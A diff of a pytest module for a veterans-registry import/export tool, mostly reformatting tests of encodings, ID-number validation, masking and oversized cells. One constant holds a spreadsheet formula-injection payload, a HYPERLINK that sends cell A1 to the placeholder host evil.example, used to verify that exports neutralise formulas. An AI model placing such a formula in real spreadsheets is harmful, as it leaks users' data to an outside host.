@@ -2,6 +2,7 @@
 a second run creating nothing, the file's problems (another encoding) named in one line,
 what is exported data (never a formula), ID numbers typed as numbers and oversized cells
 refused by row."""
+
 import csv
 import json
 
@@ -11,8 +12,20 @@ import pytest
 from tests.factories import make_veteran, unique_id_numbers
 from tests.helpers import scalar
 
-HEADERS = ["身份证号", "姓名", "手机", "县市区代码", "退役时间", "退役类型", "技能", "意愿",
-           "就业状态", "服务需求", "意向职业", "最低薪资"]
+HEADERS = [
+    "身份证号",
+    "姓名",
+    "手机",
+    "县市区代码",
+    "退役时间",
+    "退役类型",
+    "技能",
+    "意愿",
+    "就业状态",
+    "服务需求",
+    "意向职业",
+    "最低薪资",
+]
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
@@ -22,9 +35,20 @@ def rows(n, bad_every=0):
     for i, number in enumerate(unique_id_numbers(n)):
         v = make_veteran(id_number=number)
         phone = "12345" if bad_every and i % bad_every == bad_every - 1 else f"139{i:08d}"
-        yield [v["id_number"], v["name"], phone, v["county_code"], v["discharged_on"],
-               "自主就业", "B2驾驶、保安", "job", "未就业", "岗位推荐，技能培训", "驾驶员",
-               4000]
+        yield [
+            v["id_number"],
+            v["name"],
+            phone,
+            v["county_code"],
+            v["discharged_on"],
+            "自主就业",
+            "B2驾驶、保安",
+            "job",
+            "未就业",
+            "岗位推荐，技能培训",
+            "驾驶员",
+            4000,
+        ]
 
 
 def write_xlsx(path, n, bad_every=0):
@@ -37,7 +61,8 @@ def write_xlsx(path, n, bad_every=0):
 
 
 def test_a_10000_row_xlsx_imports_with_its_bad_rows_reported_and_twice_is_harmless(
-        system, vetctl, tmp_path, db):
+    system, vetctl, tmp_path, db
+):
     path = tmp_path / "昌吉市退役军人.xlsx"
     write_xlsx(path, 10_000, bad_every=1_000)
     result = json.loads(vetctl("--json", "import", "veterans", path))
@@ -49,10 +74,14 @@ def test_a_10000_row_xlsx_imports_with_its_bad_rows_reported_and_twice_is_harmle
     assert {r["field"] for r in reported} == {"phone"}
     assert [int(r["row"]) for r in reported] == [1_001 + 1_000 * k for k in range(10)]
     # Labels became codes on the way in.
-    assert scalar(db, "SELECT skills FROM registry.veterans LIMIT 1") == ["driver_b2",
-                                                                          "security_guard"]
+    assert scalar(db, "SELECT skills FROM registry.veterans LIMIT 1") == [
+        "driver_b2",
+        "security_guard",
+    ]
     assert scalar(db, "SELECT service_needs FROM registry.veterans LIMIT 1") == [
-        "job_referral", "skills_training"]
+        "job_referral",
+        "skills_training",
+    ]
 
     again = json.loads(vetctl("--json", "import", "veterans", path))
     assert (again["created"], again["duplicate"], again["rejected"]) == (0, 9_990, 10)
@@ -71,13 +100,19 @@ def test_a_gb18030_csv_imports_and_says_what_it_did(system, vetctl, tmp_path, db
     out = vetctl("import", "veterans", path)
     assert "45 created, 0 duplicate, 5 rejected" in out
     assert scalar(db, "SELECT count(*) FROM registry.veterans") == 45
-    assert scalar(db, "SELECT name FROM registry.veterans LIMIT 1")[0] in "王李张刘陈杨赵黄周吴徐孙马朱胡郭何高林罗欧"
+    assert (
+        scalar(db, "SELECT name FROM registry.veterans LIMIT 1")[0]
+        in "王李张刘陈杨赵黄周吴徐孙马朱胡郭何高林罗欧"
+    )
 
 
-@pytest.mark.parametrize("content,message", [
-    (None, "no such file"),
-    (b"not a workbook", "not a readable .xlsx file"),
-])
+@pytest.mark.parametrize(
+    "content,message",
+    [
+        (None, "no such file"),
+        (b"not a workbook", "not a readable .xlsx file"),
+    ],
+)
 def test_a_file_that_cannot_be_read_is_one_line(system, vetctl, tmp_path, content, message):
     path = tmp_path / "名册.xlsx"
     if content is not None:
@@ -95,12 +130,15 @@ def test_a_file_without_an_id_number_column_is_refused(system, vetctl, tmp_path)
 def test_export_writes_masked_id_numbers_and_no_contact_details(system, vetctl, tmp_path, rpc):
     # Distinct ID numbers: make_veteran's random ones come from a small space.
     numbers = list(unique_id_numbers(4))
-    veterans = [rpc.registry.register_veteran(make_veteran(id_number=n, county_code="652301"))
-                for n in numbers[:3]]
+    veterans = [
+        rpc.registry.register_veteran(make_veteran(id_number=n, county_code="652301"))
+        for n in numbers[:3]
+    ]
     rpc.registry.register_veteran(make_veteran(id_number=numbers[3], county_code="652302"))
     out = tmp_path / "昌吉市.csv"
-    assert "3 veterans written" in vetctl("export", "veterans", "--county", "652301",
-                                          "--format", "csv", "-o", out)
+    assert "3 veterans written" in vetctl(
+        "export", "veterans", "--county", "652301", "--format", "csv", "-o", out
+    )
     with open(out, encoding="utf-8-sig") as handle:
         exported = list(csv.DictReader(handle))
     assert sorted(r["id"] for r in exported) == sorted(v["id"] for v in veterans)
@@ -109,8 +147,11 @@ def test_export_writes_masked_id_numbers_and_no_contact_details(system, vetctl, 
     assert not {"phone", "address"} & set(exported[0])
     xlsx = tmp_path / "all.xlsx"
     vetctl("export", "veterans", "--format", "xlsx", "-o", xlsx)
-    sheet = openpyxl.load_workbook(xlsx, read_only=True).worksheets[0]
-    assert len(list(sheet.iter_rows(values_only=True))) == 5  # the header and 4 veterans
+    book = openpyxl.load_workbook(xlsx, read_only=True)  # keeps the file open until close()
+    try:
+        assert len(list(book.worksheets[0].iter_rows(values_only=True))) == 5  # header + 4
+    finally:
+        book.close()
 
 
 def test_enterprises_import_with_founders_by_id_number(system, vetctl, tmp_path, rpc, db):
@@ -124,7 +165,8 @@ def test_enterprises_import_with_founders_by_id_number(system, vetctl, tmp_path,
         "企业,91652301MA78K2Q5X4,坏代码公司,652301,物流,2025-05-01,初创期,"
         f"{founder['id_number']}\n"
         "个体工商户,,无人认领,652301,零售,2024-03-01,经营期,110101199003070000\n",
-        encoding="utf-8")
+        encoding="utf-8",
+    )
     result = json.loads(vetctl("--json", "import", "enterprises", path))
     assert (result["created"], result["duplicate"], result["rejected"]) == (2, 0, 2)
     with open(result["report"], encoding="utf-8-sig") as handle:
@@ -145,7 +187,7 @@ def digit_id_numbers(count):
 
 def test_export_writes_names_that_look_like_formulas_as_text(system, vetctl, tmp_path, rpc):
     names = [FORMULA, "+86张伟", "-李强", "@王磊"]
-    for name, number in zip(names, unique_id_numbers(len(names))):
+    for name, number in zip(names, unique_id_numbers(len(names)), strict=True):
         rpc.registry.register_veteran(make_veteran(id_number=number, name=name))
     xlsx, csv_path = tmp_path / "all.xlsx", tmp_path / "all.csv"
     vetctl("export", "veterans", "--format", "xlsx", "-o", xlsx)
@@ -153,14 +195,15 @@ def test_export_writes_names_that_look_like_formulas_as_text(system, vetctl, tmp
     header, *written = openpyxl.load_workbook(xlsx).worksheets[0].iter_rows()
     name = [cell.value for cell in header].index("name")
     assert sorted((row[name].data_type, row[name].value) for row in written) == sorted(
-        ("s", n) for n in names)
+        ("s", n) for n in names
+    )
     with open(csv_path, encoding="utf-8-sig", newline="") as handle:
-        assert sorted(r["name"] for r in csv.DictReader(handle)) == sorted(
-            "'" + n for n in names)
+        assert sorted(r["name"] for r in csv.DictReader(handle)) == sorted("'" + n for n in names)
 
 
-def test_id_numbers_typed_as_numbers_are_rejected_naming_row_and_column(system, vetctl,
-                                                                        tmp_path, db):
+def test_id_numbers_typed_as_numbers_are_rejected_naming_row_and_column(
+    system, vetctl, tmp_path, db
+):
     good, as_float, as_int, good_too = digit_id_numbers(4)
     # A float as Excel keeps a number typed in a General cell (15 significant digits), an
     # int as a program writing the number leaves it: neither is taken.
@@ -168,7 +211,7 @@ def test_id_numbers_typed_as_numbers_are_rejected_naming_row_and_column(system, 
     book = openpyxl.Workbook(write_only=True)
     sheet = book.create_sheet()
     sheet.append(HEADERS)
-    for number, row in zip(numbers, rows(4)):
+    for number, row in zip(numbers, rows(4), strict=True):
         sheet.append([number, *row[1:]])
     xlsx = tmp_path / "名册.xlsx"
     book.save(xlsx)
@@ -180,7 +223,7 @@ def test_id_numbers_typed_as_numbers_are_rejected_naming_row_and_column(system, 
     assert reported == [("3", "id_number", message), ("4", "id_number", message)]
     with db.cursor() as cur:
         cur.execute("SELECT id_number FROM registry.veterans")
-        registered = {number for number, in cur.fetchall()}
+        registered = {number for (number,) in cur.fetchall()}
     assert registered == {good, good_too}  # nobody for rows 3 and 4, rounded or not
 
     # The same as Excel saves such a cell in a CSV; an unknown header echoed as data.
@@ -194,12 +237,12 @@ def test_id_numbers_typed_as_numbers_are_rejected_naming_row_and_column(system, 
     with open(result["report"], encoding="utf-8-sig") as handle:
         assert list(csv.reader(handle))[1:] == [
             ["header", "'" + FORMULA, "column not recognised: ignored"],
-            ["2", "id_number", message]]
+            ["2", "id_number", message],
+        ]
     assert scalar(db, "SELECT count(*) FROM registry.veterans") == 2
 
 
-def test_an_oversized_cell_is_rejected_naming_its_row_and_column(system, vetctl, tmp_path,
-                                                                 db):
+def test_an_oversized_cell_is_rejected_naming_its_row_and_column(system, vetctl, tmp_path, db):
     path = tmp_path / "名册.csv"
     with open(path, "w", encoding="utf-8", newline="") as handle:
         writer = csv.writer(handle)
@@ -212,13 +255,11 @@ def test_an_oversized_cell_is_rejected_naming_its_row_and_column(system, vetctl,
         (reported,) = csv.DictReader(handle)
     assert (reported["row"], reported["field"]) == ("3", "name")
     assert "200,000 characters" in reported["message"]
-    assert scalar(db, "SELECT count(*) FROM registry.veterans WHERE id_number = %s",
-                  second[0]) == 0
+    assert scalar(db, "SELECT count(*) FROM registry.veterans WHERE id_number = %s", second[0]) == 0
 
 
 @pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
-def test_a_csv_in_another_encoding_is_one_line_naming_the_accepted_ones(vetctl, tmp_path,
-                                                                       encoding):
+def test_a_csv_in_another_encoding_is_one_line_naming_the_accepted_ones(vetctl, tmp_path, encoding):
     path = tmp_path / "名册.csv"
     text = "id_number,name\n652301199206150714,André,\n"
     path.write_bytes(text.encode(encoding))
